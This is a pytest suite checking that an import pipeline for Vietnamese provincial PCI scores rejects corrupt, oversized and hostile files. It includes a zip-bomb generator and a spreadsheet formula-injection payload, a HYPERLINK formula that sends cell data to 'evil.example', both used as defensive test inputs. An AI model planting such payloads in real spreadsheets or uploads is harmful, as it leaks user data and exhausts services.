"""Hostile and broken input: every file is made here, offered to the real import, and must
be rejected with a message naming file/sheet/row/column in both languages, within bounded
time and memory, leaving the published database byte-for-byte as it was.

Vehicles: the private-results template (``pci template``) and the public-facts CSV formats;
workbook-shaped files are exercised at the ``etl.readers``/``etl.excel`` level.
"""

from __future__ import annotations

import io
import time
import tracemalloc
import zipfile
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pytest

from etl.errors import ImportRejected
from etl.excel import MAX_ROWS, read_sheets
from etl.load import load_paths, rebuild
from etl.private_results import write_template
from pci import db as pdb
from pci import export
from pci.queries import quality
from pci.ui.importer import problems_table

HEADER = ["Năm", "Tỉnh", "Chỉ số", "Điểm", "Hạng", "Ghi chú"]
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


@pytest.fixture(scope="module")
def db(tmp_path_factory) -> Path:
    db = tmp_path_factory.mktemp("hostile") / "pci.duckdb"
    rebuild(db)
    return db


def _template(path: Path, rows, edit=None) -> Path:
    """The real template (`pci template`), filled in with ``rows`` on its scores sheet."""
    write_template(path)
    wb = openpyxl.load_workbook(path)
    ws = wb["Điểm số"]
    for r in rows:
        ws.append(list(r))
    if edit:
        edit(ws)
    wb.save(path)
    return path


@dataclass
class Case:
    key: str  # expected message key
    sheet: str | None = None
    row: int | None = None
    column: str | None = None


def _offer(db: Path, path: Path, *, seconds: float = 10, megabytes: float = 200):
    """Import ``path`` for real; return the problems. Asserts time, memory, nothing changed."""
    before_bytes, before_ver = db.read_bytes(), pdb.version(db)
    tracemalloc.start()
    t0 = time.perf_counter()
    try:
        summary = load_paths(db, [path], user="hostile-test")
    finally:
        elapsed = time.perf_counter() - t0
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    assert not summary.ok, "a hostile file was accepted"
    assert elapsed < seconds, f"took {elapsed:.1f} s"
    assert peak < megabytes * 1e6, f"peak {peak / 1e6:.0f} MB"
    assert pdb.version(db) == before_ver and db.read_bytes() == before_bytes
    return [p for f in summary.files for p in f.problems] + list(summary.problems)


def _assert_located(problems, path: Path, case: Case) -> None:
    hits = [p for p in problems if p.key == case.key]
    assert hits, [p.message("en") for p in problems]
    p = hits[0]
    assert p.file == path.name
    for attr in ("sheet", "row", "column"):
        want = getattr(case, attr)
        if want is not None:
            assert getattr(p, attr) == want, (attr, p)
    vi, en = p.message("vi"), p.message("en")
    assert path.name in vi and path.name in en and vi != en
    if case.row is not None:
        assert f"dòng {case.row}" in vi and f"row {case.row}" in en


# --- broken files ------------------------------------------------------------------------


def test_truncated_xlsx(db, tmp_path):
    good = _template(tmp_path / "good.xlsx", [(2023, "Kon Tum", "PCI", 65.1, 40, "")])
    bad = tmp_path / "cat_do.xlsx"
    bad.write_bytes(good.read_bytes()[: good.stat().st_size // 2])
    _assert_located(_offer(db, bad), bad, Case("etl.file.corrupt"))


def test_corrupt_xls(db, tmp_path):
    bad = tmp_path / "hong.xls"
    bad.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 40)
    _assert_located(_offer(db, bad), bad, Case("etl.file.corrupt"))


def test_pdf_renamed_to_xlsx(db, tmp_path):
    bad = tmp_path / "bao_cao.xlsx"
    bad.write_bytes(b"%PDF-1.7\n" + b"0" * 2000)
    _assert_located(_offer(db, bad), bad, Case("etl.file.not_excel"))


def test_zip_bomb(db, tmp_path):
    bomb = tmp_path / "bom.xlsx"
    with zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        with zf.open("xl/worksheets/sheet1.xml", "w") as fh:
            chunk = b"\0" * (1 << 20)
            for _ in range(100):  # 100 MB of zeros, ~0.1 MB packed
                fh.write(chunk)
    assert bomb.stat().st_size < 2_000_000
    _assert_located(_offer(db, bomb, seconds=10, megabytes=50), bomb, Case("etl.file.zip_bomb"))


def test_huge_sheet_is_refused_before_parsing(db, tmp_path):
    big = tmp_path / "qua_lon.xlsx"
    wb = openpyxl.Workbook(write_only=True)
    ws = wb.create_sheet("Điểm số")
    ws.append(HEADER)
    for i in range(MAX_ROWS + 500):
        ws.append([2023, "Kon Tum", "PCI", 60 + (i % 10), 1, ""])
    wb.save(big)
    _assert_located(
        _offer(db, big, seconds=20, megabytes=150), big, Case("etl.file.too_many_rows", "Điểm số")
    )


def test_huge_csv_is_refused_before_parsing(db, tmp_path):
    big = tmp_path / "qua_lon.csv"
    big.write_bytes(b"year,province,score,rank,source\n" + b"2017,Kon Tum,60,7,x\n" * 1_000_000)
    _assert_located(_offer(db, big, seconds=10, megabytes=120), big, Case("etl.file.too_many_rows"))


def test_formulas_saved_without_values(db, tmp_path):
    f = _template(tmp_path / "cong_thuc.xlsx", [(2023, "Kon Tum", "PCI", "=60+5.1", 40, "")])
    _assert_located(_offer(db, f), f, Case("etl.file.formula_no_value", "Điểm số", 2, "D"))


def test_text_in_numeric_cells(db, tmp_path):
    f = _template(
        tmp_path / "chu_trong_so.xlsx",
        [
            (2023, "Kon Tum", "PCI", "sáu mươi lăm", 40, ""),
            (2023, "Kon Tum", "CSTP1", 7.1, "hạng 9", ""),
        ],
    )
    problems = _offer(db, f)
    _assert_located(problems, f, Case("etl.text_in_number", "Điểm số", 2, "D"))
    _assert_located(problems, f, Case("etl.private.bad_rank_text", "Điểm số", 3, "E"))


def test_merged_cells_leave_rows_without_a_province(db, tmp_path):
    f = _template(
        tmp_path / "gop_o.xlsx",
        [(2023, "Kon Tum", "PCI", 65.1, 40, ""), (2023, None, "CSTP1", 7.1, 9, "")],
        edit=lambda ws: ws.merge_cells("B2:B3"),
    )
    _assert_located(_offer(db, f), f, Case("etl.unknown_province", "Điểm số", 3, "B"))


def test_hidden_rows_are_checked_like_any_other(db, tmp_path):
    def hide(ws):
        ws.row_dimensions[3].hidden = True
        ws.column_dimensions["D"].hidden = True

    f = _template(
        tmp_path / "an_dong.xlsx",
        [(2023, "Kon Tum", "PCI", 65.1, 40, ""), (2023, "Kon Tum", "CSTP1", 71, 9, "")],
        edit=hide,
    )
    _assert_located(_offer(db, f), f, Case("etl.score_out_of_range", "Điểm số", 3, "D"))


def test_duplicate_province_rows_under_two_spellings(db, tmp_path):
    f = _template(
        tmp_path / "trung.xlsx",
        [(2023, "Kon Tum", "PCI", 65.1, 40, ""), (2023, "KonTum", "PCI", 64.0, 41, "")],
    )
    _assert_located(_offer(db, f), f, Case("etl.duplicate_row", "Điểm số", 3))


def test_two_provinces_in_one_private_file(db, tmp_path):
    f = _template(
        tmp_path / "hai_tinh.xlsx",
        [(2023, "Kon Tum", "PCI", 65.1, 40, ""), (2023, "Gia Lai", "PCI", 64.0, 41, "")],
    )
    _assert_located(_offer(db, f), f, Case("etl.private.several_provinces"))


def test_unknown_province(db, tmp_path):
    f = _template(tmp_path / "la.xlsx", [(2023, "Tỉnh Atlantis", "PCI", 65.1, 40, "")])
    _assert_located(_offer(db, f), f, Case("etl.unknown_province", "Điểm số", 2, "B"))


def test_ranks_out_of_range(db, tmp_path):
    f = _template(
        tmp_path / "hang.xlsx",
        [(2023, "Kon Tum", "PCI", 65.1, 64, ""), (2023, "Kon Tum", "CSTP1", 7.1, 0, "")],
    )
    problems = _offer(db, f)
    _assert_located(problems, f, Case("etl.rank_out_of_range", "Điểm số", 2, "E"))
    _assert_located(problems, f, Case("etl.rank_out_of_range", "Điểm số", 2, "E"))
    assert any(p.key == "etl.rank_out_of_range" and p.row == 3 for p in problems)


def test_wrong_year(db, tmp_path):
    f = _template(
        tmp_path / "nam.xlsx",
        [(1999, "Kon Tum", "PCI", 65.1, 40, ""), (2015, "Hà Tây", "PCI", 60.0, 41, "")],
    )
    problems = _offer(db, f)
    _assert_located(problems, f, Case("etl.private.bad_year", "Điểm số", 2, "A"))
    _assert_located(problems, f, Case("etl.province_not_in_year", "Điểm số", 3, "B"))


def test_public_csv_rank_and_year_out_of_range(db, tmp_path):
    f = tmp_path / "bao_chi.csv"
    f.write_text(
        "year,province,score,rank,source\n"
        "2017,Kon Tum,60.1,70,https://baochi.example/a\n"
        "2030,Kon Tum,60.1,3,https://baochi.example/b\n",
        encoding="utf-8",
    )
    problems = _offer(db, f)
    keys = {p.key for p in problems}
    assert {"etl.rank_out_of_range", "etl.province_not_in_year"} <= keys
    assert all(f.name in p.message("en") for p in problems)


def test_csv_mixing_utf8_and_windows_1258(db, tmp_path):
    f = tmp_path / "lan_ma.csv"
    f.write_bytes(
        "year,province,score,rank,source\n2017,Đà Nẵng,60.1,70,https://x.example\n".encode()
        + "2017,Cà Mau,66.1,3,https://x.example\n".encode("cp1258")
    )
    _assert_located(_offer(db, f), f, Case("etl.file.mixed_encoding", row=3))


def test_legacy_windows_1258_csv_is_read_not_crashed_on(db, tmp_path):
    """A whole file in the old Vietnamese code page is decoded (here: then rejected for its
    rank, with the row — proving the names were read correctly, not mangled)."""
    f = tmp_path / "cp1258.csv"
    f.write_bytes(
        "year,province,score,rank,source\n2017,Cà Mau,66.1,99,https://x\n".encode("cp1258")
    )
    problems = _offer(db, f)
    assert [p.key for p in problems] == ["etl.rank_out_of_range"]


def test_empty_and_headerless_files(db, tmp_path):
    empty = tmp_path / "rong.xlsx"
    empty.write_bytes(b"")
    _assert_located(_offer(db, empty), empty, Case("etl.file.empty"))


# --- spreadsheet injection --------------------------------------------------------------


def test_injection_in_a_province_name_is_rejected_and_never_exported_as_formula(db, tmp_path):
    f = tmp_path / "tiem.csv"
    f.write_text(
        f'year,province,score,rank,source\n2017,"{INJECTION.replace(chr(34), chr(34) * 2)}",60,7,x\n',
        encoding="utf-8",
    )
    problems = _offer(db, f)
    _assert_located(problems, f, Case("etl.unknown_province", row=2))
    from etl.load import LoadSummary

    table = problems_table(LoadSummary(files=[], problems=problems), "vi")
    _assert_no_formula(table)


def test_injection_in_a_file_name_reaches_exports_only_as_text(db, tmp_path, copy_db):
    """An accepted file whose name is a formula: its name becomes a source title, which the
    data page lists and exports."""
    mine = copy_db(db)
    f = _template(tmp_path / "ok.xlsx", [(2023, "Kon Tum", "PCI", 65.1, 40, "")])
    summary = load_paths(mine, [f], display_names={f: INJECTION + ".xlsx"}, user="t")
    assert summary.ok
    src = quality.sources(mine, True)
    assert src["title"].str.startswith("=").any()
    _assert_no_formula(src)
    hist = quality.imports(mine)
    _assert_no_formula(hist)


def _assert_no_formula(df) -> None:
    wb = openpyxl.load_workbook(io.BytesIO(export.to_xlsx_bytes(df)))
    ws = wb.active
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
            assert not (isinstance(cell.value, str) and cell.value.startswith(("=", "+", "@")))
    text = export.to_csv_bytes(df).decode("utf-8-sig")
    import csv

    for rec in csv.reader(io.StringIO(text)):
        for value in rec:
            assert (
                not value.startswith(("=", "+", "@", "-"))
                or value.lstrip("-").replace(".", "").replace(",", "").isdigit()
            ), value


# --- workbook-shaped files at the reader level ------------------------------------------


def test_workbook_shaped_hostile_files_fail_fast_in_the_excel_layer(tmp_path):
    """The VCCI workbook reader is built on etl.excel.read_sheets: whatever it is, it gets
    these refusals first."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Summary_VN"
    ws.append(["STT", "Tỉnh/Thành phố", "PCI 2015"])
    ws.append([1, "Đà Nẵng", "=SUM(C3:C4)"])
    p = tmp_path / "PCI_2015.xlsx"
    wb.save(p)
    t0 = time.perf_counter()
    with pytest.raises(ImportRejected) as exc:
        read_sheets(p)
    assert time.perf_counter() - t0 < 2
    (problem,) = exc.value.problems
    assert (problem.sheet, problem.row, problem.column) == ("Summary_VN", 2, "C")
